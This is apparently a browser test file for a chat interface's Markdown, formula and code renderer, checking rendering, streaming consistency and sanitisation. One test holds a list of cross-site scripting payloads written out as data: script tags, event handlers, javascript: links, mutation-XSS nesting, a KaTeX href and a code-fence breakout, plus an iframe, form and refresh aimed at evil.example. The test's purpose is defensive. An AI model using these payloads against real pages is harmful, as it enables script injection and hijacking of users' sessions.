/* rendering.mjs - Markdown, formulas and code; and that nothing a model writes does anything. */
import { check, expect, same, soon, shot, openImported, texts } from './browser.mjs';

export const rich = `A **summary** of \`hadal\`, with $E = mc^2$, \\(a_1 + b\\) and prices of $5 and $7.

$$\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}$$

## Steps

1. Build the *program*
2. Run it
   - with a model
   - with [a link](https://example.org/page)

| Model | Parameters | Active |
|:--|--:|--:|
| V2-Lite | 15.7 B | 2.4 B |
| V3 | 671 B | 37 B |

\`\`\`python
def greet(name: str) -> str:
    """Say hello."""
    return f"Hello, {name}!"  # a comment
\`\`\`

> A quotation.

\\[ x = \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\]
`;

const hostile = `<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><img src="https://evil.example/a.png">

![picture](https://evil.example/b.png) [go](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>) <a href="JaVaScRiPt:window.pwned=5">x</a>

<svg onload="window.pwned=6"><animate onbegin="window.pwned=7"/></svg><iframe src="https://evil.example/"></iframe><style>body{display:none}</style><link rel=stylesheet href="https://evil.example/c.css"><meta http-equiv=refresh content="0;url=https://evil.example/">

<form action="https://evil.example/"><input name=key><button>Send</button></form><div style="position:fixed;inset:0" id="message" class="composer" onclick="window.pwned=8">over everything</div><base href="https://evil.example/"><details open ontoggle="window.pwned=9"><summary>x</summary></details>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=10&gt;"></table></mtext></math>

$\\href{javascript:window.pwned=11}{x}$ $\\includegraphics{https://evil.example/d.png}$ $\\htmlStyle{position:fixed}{y}$

\`\`\`"><img/src/onerror=window.pwned=12>
</code></pre><script>window.pwned = 13</script>
\`\`\`

| <img src=x onerror=window.pwned=14> |
|--|
| <script>window.pwned=15</script> |
`;

export async function checkText() {
    await check('Markdown, tables, code and formulas are shown', async (openPage) => {
        const page = await openPage();
        await openImported(page, 'Rich', 'Show me everything', rich);
        await page.waitForSelector('.katex-display');
        await page.waitForSelector('.hljs-keyword');
        await soon(() => page.locator('.assistant .katex').count(), 4, 'formulas, and prices are none');
        same(await page.locator('.assistant td').allInnerTexts(), ['V2-Lite', '15.7 B', '2.4 B', 'V3', '671 B', '37 B'], 'the table');
        same(await page.locator('.assistant td').nth(1).evaluate((cell) => getComputedStyle(cell).textAlign), 'end', 'columns of numbers');
        const link = page.locator('.assistant a');
        same([await link.getAttribute('target'), await link.getAttribute('rel')], ['_blank', 'noopener noreferrer nofollow'], 'links open elsewhere');
        expect((await texts(page, '.assistant'))[0].includes('prices of $5 and $7'), 'prices stay');
        await page.evaluate(() => (navigator.clipboard.writeText = async (text) => (window.copied = text)));
        await page.click('.code-head button');
        same(await page.evaluate(() => window.copied.split('\n')[0]), 'def greet(name: str) -> str:', 'code is copied');
        await shot(page, 'markdown');
        await page.emulateMedia({ colorScheme: 'dark' });
        await shot(page, 'markdown-dark');
    });

    await check('nothing that a model writes runs, loads or poses as the page', async (openPage) => {
        // Without its policy, which would stop it too: the page has to be safe by itself.
        const page = await openPage({ bypassCSP: true });
        await openImported(page, 'Hostile', hostile, hostile);
        await page.waitForTimeout(500);
        same(await page.evaluate(() => window.pwned), undefined, 'nothing ran');
        const found = await page.evaluate(() => {
            const message = document.querySelector('.assistant');
            const elements = [...message.querySelectorAll('.markdown *')];
            return {
                tags: message.querySelectorAll('script, img, iframe, style, link, meta, form, input, base, object, embed, animate').length,
                handlers: elements.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on')),
                links: [...message.querySelectorAll('a')].map((link) => link.getAttribute('href')).filter((href) => !/^https:/.test(href)),
                posing: elements.filter((element) => element.id || element.matches('.composer') || getComputedStyle(element).position === 'fixed').length,
            };
        });
        same(found, { tags: 0, handlers: [], links: [], posing: 0 }, 'what is left');
        expect((await texts(page, '.user .bubble'))[0].startsWith('<script>'), 'what the user wrote is text');
        await shot(page, 'hostile');
    });

    await check('a text that comes in pieces looks like one that came at once', async (openPage) => {
        const page = await openPage();
        const results = await page.evaluate(async (text) => {
            const base = document.querySelector('script[type=module]').src;
            const { Markdown } = await import(new URL('markdown.js', base).href);
            const plain = (root) => root.innerHTML.replace(/field-\d+/g, '');
            const until = async (holds) => {
                for (let i = 0; i < 400 && !holds(); i++) await new Promise((resolve) => setTimeout(resolve, 50));
            };
            const ready = (root) => root.querySelector('.katex-display') && root.querySelector('.hljs-keyword'); // what is loaded when it is needed
            const whole = document.createElement('div');
            const one = new Markdown(whole);
            one.update(text);
            one.finish();
            await until(() => ready(whole));
            const again = document.createElement('div');
            const second = new Markdown(again);
            second.update(text);
            second.finish();
            await until(() => plain(again) === plain(whole));
            const differences = [];
            for (const step of [1, 3, 17]) {
                const root = document.createElement('div');
                const growing = new Markdown(root);
                for (let end = step; end < text.length + step; end += step) growing.update(text.slice(0, end));
                growing.finish();
                await until(() => plain(root) === plain(again));
                if (plain(root) !== plain(again)) differences.push([step, plain(root), plain(again)]);
            }
            if (!ready(again)) differences.push('formulas and code are not shown');
            return { differences, blocks: again.children.length };
        }, rich);
        same(results.differences, [], 'differences');
        expect(results.blocks > 7, `${results.blocks} blocks`);
    });

    await check('while a text grows, only its last block is made again', async (openPage) => {
        const page = await openPage();
        const kept = await page.evaluate(async () => {
            const base = document.querySelector('script[type=module]').src;
            const { Markdown } = await import(new URL('markdown.js', base).href);
            const root = document.createElement('div');
            const growing = new Markdown(root);
            let text = 'First paragraph.\n\n- a list\n- of two\n\nThird.\n\n```js\nlet x = 1;\n';
            growing.update(text);
            const nodes = [...root.children];
            const code = root.querySelector('code');
            for (let i = 0; i < 50; i++) growing.update((text += `let y${i} = ${i};\n`));
            return { same: nodes.every((element, i) => root.children[i] === element), code: root.querySelector('code') === code, lines: code.textContent.trim().split('\n').length };
        });
        same(kept, { same: true, code: true, lines: 51 }, 'elements');
    });
}
